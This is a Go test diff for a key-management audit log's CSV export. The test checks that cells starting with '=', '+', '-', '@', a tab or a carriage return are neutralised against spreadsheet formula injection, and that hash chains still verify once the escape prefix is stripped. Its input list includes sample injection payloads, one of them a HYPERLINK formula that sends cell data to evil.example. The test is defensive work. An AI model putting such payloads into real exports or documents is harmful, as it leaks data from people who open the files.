@@ -124,3 +124,56 @@ func fromExportRow(t *testing.T, r []string) kp.AuditEvent {
 	}
 	return e
 }
+
+// leadIns are the formula lead-ins of issue 26, each a value a person could
+// choose: a label, a name, a message.
+var leadIns = []string{"=1+1", "+1", "-1", "@A1", "\tTab first", "\rCR first", `=HYPERLINK("http://evil.example/?"&A1,"Open")`, "'=quoted already"}
+
+// A CSV export opened in a spreadsheet runs no formula, whichever column a
+// person's text is in, and every row still recomputes its hash once the
+// receiver strips the prefix by the documented rule (CheckCSVRecord); read
+// as the cells stand, the rows with a prefix do not.
+func TestCSVExportIsSpreadsheetSafeAndStillRecomputes(t *testing.T) {
+	base := chainedEvents()[0]
+	var evs []kp.AuditEvent
+	prev := make([]byte, 32)
+	for i, s := range leadIns {
+		e := base
+		e.ID = int64(i + 1)
+		e.ActorUserID, e.ActorName, e.TenantID, e.TenantName, e.SessionHash, e.ClientIP = s, s, s, s, s, s
+		e.UserAgent, e.TargetKeyID, e.ErrorMessage, e.RequestID, e.Details = s, s, s, s, `{"label": "`+s+`"}`
+		if i%2 == 0 {
+			e.Details = s
+		}
+		e.PrevHash = prev
+		var h hasher
+		sum := h.hash(&e, e.ID)
+		e.Hash, prev = sum[:], sum[:]
+		evs = append(evs, e)
+	}
+	var out bytes.Buffer
+	enc := NewCSVEncoder(&out)
+	for i := range evs {
+		if err := enc.Encode(&evs[i]); err != nil {
+			t.Fatal(err)
+		}
+	}
+	enc.Close()
+	recs, err := csv.NewReader(&out).ReadAll()
+	if err != nil || len(recs) != len(evs)+1 {
+		t.Fatalf("the export reads back as %d records (%v), want %d", len(recs), err, len(evs)+1)
+	}
+	for i, row := range recs[1:] {
+		for j, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("row %d, %s: %q starts a formula", i+1, recs[0][j], cell)
+			}
+		}
+		if err := CheckCSVRecord(recs[0], row); err != nil {
+			t.Errorf("row %d does not recompute by the documented rule: %v", i+1, err)
+		}
+		if err := checkCSVRecord(recs[0], row, func(s string) string { return s }); err == nil {
+			t.Errorf("row %d recomputes without stripping its prefixes: it has none", i+1)
+		}
+	}
+}
